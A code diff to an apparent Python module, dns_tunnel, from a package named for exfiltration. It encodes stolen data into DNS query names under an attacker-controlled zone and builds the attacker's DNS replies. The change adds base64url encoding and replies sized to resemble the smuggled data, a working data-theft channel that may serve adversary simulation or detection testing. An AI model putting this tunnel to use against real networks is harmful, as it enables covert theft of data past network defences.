@@ -1,8 +1,8 @@
 """dns_tunnel: stolen bytes as query names under a zone the attacker answers for.
 
-A name is (session u16, sequence u32, data) written in base32 (RFC 4648, lower case, no padding) or hex, cut into
-labels, then the zone. Sequence numbers start where the caller says and count names, so that lost, repeated and
-reordered queries show.
+A name is (session u16, sequence u32, data) written in base32 (RFC 4648, lower case, no padding), base64url (RFC 4648, 5,
+no padding) or hex, cut into labels, then the zone. Sequence numbers start where the caller says and count names, so that
+lost, repeated and reordered queries show. base64url needs resolvers that leave capitals alone, as RFC 1035 asks them to.
 """
 
 from __future__ import annotations
@@ -10,13 +10,16 @@ from __future__ import annotations
 import base64
 import struct
 from collections.abc import Iterable
-from itertools import pairwise
 
+from mimir.exfiltration.channels.sequence import consecutive
 from mimir.exfiltration.dns_messages import response_message, text_data, wire_name
 from mimir.spec.exfiltration import DnsTunnelSpec
 
 _PREFIX = struct.Struct("!HI")
 SHORTEST_LABEL = 4
+PLAIN_BYTES = 512  #: longest message over UDP without EDNS (RFC 1035, 4.2.1)
+_RECORD_BYTES = 12  # of a record whose name is a pointer, without its data
+_BITS = {"base32": 5, "base64url": 6, "hex": 4}  # of a character
 _ACKNOWLEDGED = {"TXT": text_data(b"ok"), "A": b"\x7f\x00\x00\x01", "NULL": b"ok"}
 
 
@@ -25,8 +28,7 @@ def name_capacity(spec: DnsTunnelSpec) -> int:
     room = spec.name_bytes - len(spec.domain)  # for characters and one dot after each label
     full, rest = divmod(room, spec.label_bytes + 1)
     characters = full * spec.label_bytes + max(0, rest - 1)
-    raw = characters * 5 // 8 if spec.encoding == "base32" else characters // 2
-    return raw - _PREFIX.size
+    return characters * _BITS[spec.encoding] // 8 - _PREFIX.size
 
 
 def encode(data: bytes, spec: DnsTunnelSpec, session: int, first_sequence: int) -> list[bytes]:
@@ -56,8 +58,8 @@ def decode(names: Iterable[bytes], spec: DnsTunnelSpec) -> bytes:
     pieces: dict[int, bytes] = {}
     sessions = set()
     for name in names:
-        plain = name.removesuffix(b".").lower()
-        if not plain.endswith(tail):
+        plain = name.removesuffix(b".")
+        if not plain.lower().endswith(tail):
             raise ValueError(f"{name!r} is not a name under {spec.domain}")
         raw = _read(plain[: -len(tail)].replace(b".", b""), spec.encoding, name)
         session, sequence = _PREFIX.unpack_from(raw)
@@ -65,34 +67,53 @@ def decode(names: Iterable[bytes], spec: DnsTunnelSpec) -> bytes:
         pieces[sequence] = raw[_PREFIX.size :]
     if len(sessions) > 1:
         raise ValueError(f"names of {len(sessions)} sessions: {sorted(sessions)}")
-    return b"".join(pieces[sequence] for sequence in _consecutive(pieces))
+    return b"".join(pieces[sequence] for sequence in consecutive(pieces))
 
 
 def answer(name: bytes, spec: DnsTunnelSpec, transaction: int = 0) -> bytes:
-    """The attacker's answer to one query: a short acknowledgement of the type asked for, not to be cached."""
-    data = _ACKNOWLEDGED.get(spec.record_type) or wire_name(b"ok." + spec.domain.encode("ascii"))
-    return response_message(name, spec.record_type, transaction, [data], ttl_s=0)
+    """The attacker's answer to one query, of the type asked for, not to be cached.
+
+    `short` acknowledges in a few bytes. `matching` sends about as many bytes back as the name carries (its text
+    without the zone), as far as they fit into PLAIN_BYTES: as TXT strings, as a name of the same length, raw, or as addresses (four bytes a record).
+    """
+    if spec.answer == "short":
+        records = [_ACKNOWLEDGED.get(spec.record_type) or wire_name(b"ok." + spec.domain.encode("ascii"))]
+    else:
+        records = _matching(name, spec)
+    return response_message(name, spec.record_type, transaction, records, ttl_s=0)
 
 
-def _consecutive(pieces: dict[int, bytes]) -> list[int]:
-    """Sequence numbers in sending order; they may wrap at 32 bit."""
-    present = sorted(pieces)
-    jumps = [k for k, (a, b) in enumerate(pairwise(present), 1) if b != a + 1]
-    wraps = len(jumps) == 1 and present[0] == 0 and present[-1] == 0xFFFFFFFF
-    if jumps and not wraps:
-        lost = [f"{present[k - 1] + 1} … {present[k] - 1}" for k in jumps]
-        raise ValueError(f"missing sequence numbers {', '.join(lost)}")
-    return present[jumps[0] :] + present[: jumps[0]] if wraps else present
+def _matching(name: bytes, spec: DnsTunnelSpec) -> list[bytes]:
+    """Records of about as many bytes as the name carries; as much of it as fits into PLAIN_BYTES."""
+    plain = name.removesuffix(b".")
+    labels = plain[: -len(spec.domain) - 1].split(b".")
+    text, room = b".".join(labels), PLAIN_BYTES - len(response_message(name, spec.record_type))
+    if spec.record_type == "CNAME":
+        while len(plain) + 2 + _RECORD_BYTES > room and len(labels) > 1:
+            plain = plain[len(labels.pop(0)) + 1 :]
+        return [wire_name(b".".join([*reversed(labels), spec.domain.encode("ascii")]))]
+    if spec.record_type == "TXT":
+        return [text_data(text[: room - _RECORD_BYTES - 1])]
+    if spec.record_type == "NULL":
+        return [text[: room - _RECORD_BYTES]]
+    padded = text + bytes(-len(text) % 4)
+    return [padded[at : at + 4] for at in range(0, len(padded), 4)][: room // (_RECORD_BYTES + 4)]
 
 
 def _write(raw: bytes, encoding: str) -> bytes:
-    return base64.b32encode(raw).rstrip(b"=").lower() if encoding == "base32" else raw.hex().encode()
+    if encoding == "base32":
+        return base64.b32encode(raw).rstrip(b"=").lower()
+    return base64.urlsafe_b64encode(raw).rstrip(b"=") if encoding == "base64url" else raw.hex().encode()
 
 
 def _read(text: bytes, encoding: str, name: bytes) -> bytes:
     try:
-        padded = text.upper() + b"=" * (-len(text) % 8)
-        raw = base64.b32decode(padded) if encoding == "base32" else bytes.fromhex(text.decode())
+        if encoding == "base32":
+            raw = base64.b32decode(text.upper() + b"=" * (-len(text) % 8))
+        elif encoding == "base64url":
+            raw = base64.b64decode(text + b"=" * (-len(text) % 4), altchars=b"-_", validate=True)
+        else:
+            raw = bytes.fromhex(text.decode())
     except ValueError as error:
         raise ValueError(f"{name!r} does not hold {encoding}: {error}") from error
     if len(raw) <= _PREFIX.size:
